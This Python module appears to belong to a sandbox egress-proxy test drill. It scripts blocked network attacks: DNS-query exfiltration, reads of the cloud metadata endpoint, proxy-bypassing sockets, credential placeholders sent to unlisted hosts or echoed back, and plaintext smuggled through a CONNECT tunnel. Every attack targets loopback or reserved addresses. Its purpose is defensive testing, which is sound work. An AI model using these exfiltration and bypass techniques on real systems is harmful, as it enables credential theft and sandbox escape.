"""The network attempts: the sandbox's only way out is the egress proxy.

They run with a proxy policy (``allow = ["allowed.drill.test"]``) whose
names resolve through an injected hosts map to a loopback server that the
drill starts, so no real DNS or outside host is involved.  Every twin
fetches the allowed host through the proxy; every attack must fail AND
leave a ``deny`` record with the expected rule.
"""

from __future__ import annotations

import os
from collections.abc import Callable
from typing import Any

from ..egress import HostsResolver, NetworkOptions
from ..egress.testing import LoopbackServer, RawRecorder
from ._attempts import Attempt

ALLOWED = "allowed.drill.test"
UNLISTED = "unlisted.drill.test"

_FETCH = (
    "import sys, urllib.request, urllib.error\n"
    "def fetch(url):\n"
    "    try:\n"
    "        r = urllib.request.urlopen(url, timeout=10)\n"
    "        print('OK', r.status, r.read().decode()[:40])\n"
    "    except urllib.error.HTTPError as e:\n"
    "        print('ERR', e.code)\n"
    "    except OSError as e:\n"
    "        print('ERR', type(e).__name__, getattr(e, 'errno', ''))\n"
)
_SOCK = (
    "import errno, socket\n"
    "def sock(f):\n"
    "    try:\n"
    "        f(); print('OK')\n"
    "    except OSError as e:\n"
    "        print('ERR', errno.errorcode.get(e.errno, e.errno))\n"
)


def _py(body: str) -> list[str]:
    return ["python3", "-c", _FETCH + _SOCK + body]


#: The supervisor-side variable the placeholder attempt's credential comes from.
CRED_ENV = "GLASSROOM_DRILL_PROXY_TOKEN"


def setup_net() -> tuple[dict[str, Any], Callable[[], None]]:
    server = LoopbackServer()
    #: A second port on the same host: allowed, but not one of the credential's.
    other = LoopbackServer()
    #: Takes what a CONNECT tunnel forwards, to see what got through.
    raw = RawRecorder()
    secret = "glsr-drill-real-" + os.urandom(6).hex()
    os.environ[CRED_ENV] = secret
    net = {
        "secret": secret,
        "server": server,
        "port": server.port,
        "other": other,
        "raw": raw,
        "options": NetworkOptions(
            resolver=HostsResolver({ALLOWED: "127.0.0.1", UNLISTED: "127.0.0.1"})
        ),
    }
    def cleanup() -> None:
        os.environ.pop(CRED_ENV, None)
        server.close()
        other.close()
        raw.close()

    return net, cleanup


def network_attempts(net: dict[str, Any]) -> list[Attempt]:
    port = net["port"]
    server: LoopbackServer = net["server"]
    policy = {"network": {"allow": [ALLOWED]}}
    twin = _py(f"fetch('http://{ALLOWED}:{port}/twin')")

    def fetched(res: Any) -> bool:
        return bool(res.exit_code == 0 and "OK 200 ok GET /twin" in res.stdout)

    def unauthorized(t: Any, a: Any, _c: Any) -> tuple[bool, bool, str]:
        hits = [h for h in server.hits if UNLISTED in h[2]]
        return fetched(t), "ERR 403" in a.stdout and not hits, a.stdout.strip()

    def said(word: str) -> Callable[[Any, Any, Any], tuple[bool, bool, str]]:
        def judge(t: Any, a: Any, _c: Any) -> tuple[bool, bool, str]:
            words = a.stdout.split()
            blocked = (
                a.exit_code == 0
                # "A/B": either outcome.  gVisor's netstack answers EHOSTUNREACH
                # where Linux's empty netns says ENETUNREACH: no route, both.
                and all(any(alt in a.stdout for alt in w.split("/")) for w in word.split("|"))
                and "OK" not in words
                and "RESOLVED" not in words
            )
            return fetched(t), blocked, " ".join(words)

        return judge

    def placeholder_kept(t: Any, a: Any, _c: Any) -> tuple[bool, bool, str]:
        sent = {h[1]: {k.lower(): v for k, v in s.items()}
                for h, s in zip(server.hits, server.seen_headers, strict=True)}  # fmt: skip
        stolen = sent.get("/steal", {}).get("authorization", "")
        secret = net["secret"]
        return (cred_twin(t),
                bool(stolen) and secret not in stolen and "glsr-" in stolen,
                f"unlisted host got {stolen[:24]}…")  # fmt: skip

    # The credential goes to ALLOWED on the server's port only.
    cred_policy = {
        "network": {"allow": [ALLOWED, UNLISTED]},
        "credentials": [{"name": "token", "source": f"env:{CRED_ENV}", "inject": "proxy",
                         "hosts": [f"{ALLOWED}:{port}"]}],
    }  # fmt: skip
    cred_twin_cmd = _py(
        "import os\n"
        f"r = urllib.request.Request('http://{ALLOWED}:{port}/twin-cred')\n"
        "r.add_header('Authorization', 'Bearer ' + os.environ['GLASSROOM_SECRET_TOKEN'])\n"
        "print('OK', urllib.request.urlopen(r, timeout=10).status, 'ok GET /twin')\n"
    )

    def cred_twin(t: Any) -> bool:
        """The twin's request reached the listed host with the real value."""
        auth = [{k.lower(): v for k, v in s.items()}.get("authorization")
                for h, s in zip(server.hits, server.seen_headers, strict=True)
                if h[1] == "/twin-cred"]  # fmt: skip
        return bool(fetched(t) and auth and auth[-1] == f"Bearer {net['secret']}")

    opts = net["options"]
    return [
        Attempt(
            "egress-unauthorized",
            "reach a host that is not in network.allow, through the proxy",
            twin,
            _py(f"fetch('http://{UNLISTED}:{port}/attack')"),
            unauthorized,
            rule="network.allow",
            policy=policy,
            network=opts,
        ),
        Attempt(
            "dns-exfiltration",
            "leak data in a DNS query: UDP port 53, and the libc resolver",
            twin,
            _py(
                "q = b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00'"
                " + b'\\x06secret\\x04exfil\\x04test\\x00\\x00\\x01\\x00\\x01'\n"
                "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                "sock(lambda: s.sendto(q, ('192.0.2.53', 53)))\n"
                "try:\n"
                "    socket.getaddrinfo('secret.exfil.test', 80); print('RESOLVED')\n"
                "except socket.gaierror as e:\n"
                "    print('NORESOLVE')\n"
            ),
            said("ENETUNREACH/EHOSTUNREACH|NORESOLVE"),
            rule="network.direct",
            policy=policy,
            network=opts,
        ),
        Attempt(
            "metadata-endpoint",
            "read the cloud metadata endpoint 169.254.169.254 (proxy and direct)",
            twin,
            _py(
                "fetch('http://169.254.169.254/latest/meta-data/')\n"
                "sock(lambda: socket.create_connection(('169.254.169.254', 80), timeout=5))\n"
            ),
            said("ERR 403|ENETUNREACH/EHOSTUNREACH"),
            rule="network.internal",
            policy=policy,
            network=opts,
        ),
        Attempt(
            "direct-socket",
            "open a TCP socket straight to an address, bypassing the proxy",
            twin,
            _py(f"sock(lambda: socket.create_connection(('192.0.2.10', {port}), timeout=5))"),
            said("ENETUNREACH/EHOSTUNREACH"),
            rule="network.direct",
            policy=policy,
            network=opts,
        ),
        Attempt(
            "placeholder-exfiltration",
            "send a proxy credential's placeholder to a host it is not for",
            # Twin: the listed host gets the real value, swapped in by the proxy.
            cred_twin_cmd,
            _py(
                "import os\n"
                f"r = urllib.request.Request('http://{UNLISTED}:{port}/steal')\n"
                "r.add_header('Authorization', 'Bearer ' + os.environ['GLASSROOM_SECRET_TOKEN'])\n"
                "print('OK', urllib.request.urlopen(r, timeout=10).status)\n"
            ),
            placeholder_kept,
            rule="credentials[0].hosts",
            policy=cred_policy,
            network=opts,
        ),
        *credential_attempts(net, cred_policy, cred_twin_cmd, cred_twin),
    ]


_RAW_TUNNEL = (
    "import os, socket, ssl, time\n"
    "host, port = os.environ['HTTP_PROXY'].split('//')[1].rsplit(':', 1)\n"
    "inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()\n"
    "obj = ssl.create_default_context().wrap_bio(inc, out, server_hostname='{name}')\n"
    "try:\n"
    "    obj.do_handshake()\n"
    "except ssl.SSLWantReadError:\n"
    "    pass\n"
    "s = socket.create_connection((host, int(port)), timeout=10)\n"
    "s.sendall(b'CONNECT {name}:{port} HTTP/1.1\\r\\nHost: {name}:{port}\\r\\n\\r\\n')\n"
    "print('CONNECT', s.recv(200).split(b'\\r\\n')[0].decode())\n"
    "s.sendall(out.read()); time.sleep(0.3)\n"
    "try:\n"
    "    s.sendall({payload!r}); time.sleep(0.5)\n"
    "    s.settimeout(2); print('BACK', len(s.recv(100)))\n"
    "except OSError as e:\n"
    "    print('ERR', type(e).__name__)\n"
)


def credential_attempts(net: dict[str, Any], cred_policy: dict[str, Any], twin: list[str],
                        twin_ok: Callable[[Any], bool]) -> list[Attempt]:  # fmt: skip
    """Issue 13, item 1: the credential reaches exactly its host:port pairs, in
    its own header, never comes back, and a tunnel must be TLS throughout."""
    port, secret = net["port"], net["secret"]
    server: LoopbackServer = net["server"]
    other: LoopbackServer = net["other"]
    raw: RawRecorder = net["raw"]
    opts = net["options"]
    # The servers outlive one attempt (a drill run, a test module): each set
    # of attacks marks its own requests, and the judges look at those only.
    mark = os.urandom(4).hex()

    def headers_at(srv: LoopbackServer, prefix: str) -> list[dict[str, str]]:
        return [{k.lower(): v for k, v in s.items()}
                for h, s in zip(srv.hits, srv.seen_headers, strict=True)
                if h[1].startswith(prefix)]  # fmt: skip

    def wrong_port(t: Any, a: Any, _c: Any) -> tuple[bool, bool, str]:
        got = headers_at(other, f"/steal-port/{mark}")
        auths = [h.get("authorization") for h in got]
        blocked = (len(got) == 2 and all(secret not in str(h) for h in got)
                   and "glsr-" in str(auths[0]) and auths[1] is None)  # fmt: skip
        return twin_ok(t), blocked, f"other port got {[str(x)[:20] for x in auths]}"

    def other_headers(t: Any, a: Any, _c: Any) -> tuple[bool, bool, str]:
        got = headers_at(server, f"/steal-header/{mark}")
        names = ("user-agent", "cookie", "referer", "x-anything")
        blocked = (len(got) == 1 and secret not in str(got[0])
                   and all("glsr-" in got[0].get(n, "") for n in names))  # fmt: skip
        return twin_ok(t), blocked, "placeholder kept in " + ",".join(
            n for n in names if got and "glsr-" in got[-1].get(n, ""))

    def echoed(t: Any, a: Any, _c: Any) -> tuple[bool, bool, str]:
        got = headers_at(server, f"/echo/{mark}")
        sent = bool(got) and all(h.get("authorization") == f"Bearer {secret}" for h in got)
        out = a.stdout + a.stderr
        shown = out.count("OK 200")
        blocked = sent and shown >= 5 and secret not in out and "Bearer glsr-" in out
        return twin_ok(t), blocked, f"{len(got)} echoes sent the value; {shown} came back"

    def cut(t: Any, a: Any, _c: Any) -> tuple[bool, bool, str]:
        conns = [bytes(c) for c in raw.conns]
        twin_through = any(b"TWIN-" + mark.encode() in c for c in conns)
        smuggled = any(b"SMUGGLED-" + mark.encode() in c for c in conns)
        return (t.exit_code == 0 and "CONNECT HTTP/1.1 200" in t.stdout and twin_through,
                "CONNECT HTTP/1.1 200" in a.stdout and not smuggled,
                a.stdout.strip().replace("\n", " ")[:60])

    echo = (
        "import os, base64\n"
        "ph = os.environ['GLASSROOM_SECRET_TOKEN']\n"
        "def get(path, method='GET', extra=()):\n"
        f"    r = urllib.request.Request('http://{ALLOWED}:{port}' + path, method=method)\n"
        "    r.add_header('Authorization', 'Bearer ' + ph)\n"
        "    for k, v in extra:\n"
        "        r.add_header(k, v)\n"
        "    try:\n"
        "        resp = urllib.request.urlopen(r, timeout=10)\n"
        "        body = resp.read()\n"
        "        print('OK', resp.status, dict(resp.headers), body.decode('latin-1'))\n"
        "        return body\n"
        "    except urllib.error.HTTPError as e:\n"
        "        print('ERR', e.code)\n"
        "    return b''\n"
        f"e = '/echo/{mark}'\n"
        "get(e); get(e + '?chunked=3'); get(e + '?close=1'); get(e, 'HEAD')\n"
        "get(e, extra=[('Range', 'bytes=22-40')])\n"
        "print('B64', base64.b64decode(get(e + '?b64=1')).decode('latin-1'))\n"
    )
    other_hdr = (
        "import os\n"
        "ph = os.environ['GLASSROOM_SECRET_TOKEN']\n"
        f"r = urllib.request.Request('http://{ALLOWED}:{port}/steal-header/{mark}')\n"
        "for k in ('User-Agent', 'Cookie', 'Referer', 'X-Anything'):\n"
        "    r.add_header(k, 'v ' + ph)\n"
        "print('OK', urllib.request.urlopen(r, timeout=10).status)\n"
    )
    wrong = (
        "import os\n"
        "ph = os.environ['GLASSROOM_SECRET_TOKEN']\n"
        f"r = urllib.request.Request('http://{ALLOWED}:{other.port}/steal-port/{mark}/placeholder')\n"
        "r.add_header('Authorization', 'Bearer ' + ph)\n"
        "print('OK', urllib.request.urlopen(r, timeout=10).status)\n"
        f"fetch('http://{ALLOWED}:{other.port}/steal-port/{mark}/none')\n"
    )
    tls_policy = {"network": {"allow": [ALLOWED]}}
    return [
        Attempt("credential-wrong-port",
                "send a proxy credential to its host on a port it is not listed for",
                twin, _py(wrong), wrong_port, rule="credentials[0].hosts",
                policy=cred_policy, network=opts),
        Attempt("credential-other-header",
                "put a proxy credential's placeholder in headers it is not for",
                twin, _py(other_hdr), other_headers, rule="credentials[0].header",
                policy=cred_policy, network=opts),
        Attempt("credential-echo",
                "have the listed host echo the request, to read the real value back",
                twin, _py(echo), echoed, rule="credentials[0].inject",
                policy=cred_policy, network=opts),
        Attempt("tunnel-not-tls",
                "open a CONNECT tunnel, send a real ClientHello, then plaintext",
                ["python3", "-c", _RAW_TUNNEL.format(
                    name=ALLOWED, port=raw.port,
                    payload=b"\x17\x03\x03\x00\x10TWIN-" + mark.encode() + b"...")],
                ["python3", "-c", _RAW_TUNNEL.format(
                    name=ALLOWED, port=raw.port,
                    payload=b"GET /smuggled HTTP/1.1\r\nHost: x\r\n\r\nSMUGGLED-"
                    + mark.encode())],
                cut, rule="network.sni", policy=tls_policy, network=opts),
    ]  # fmt: skip
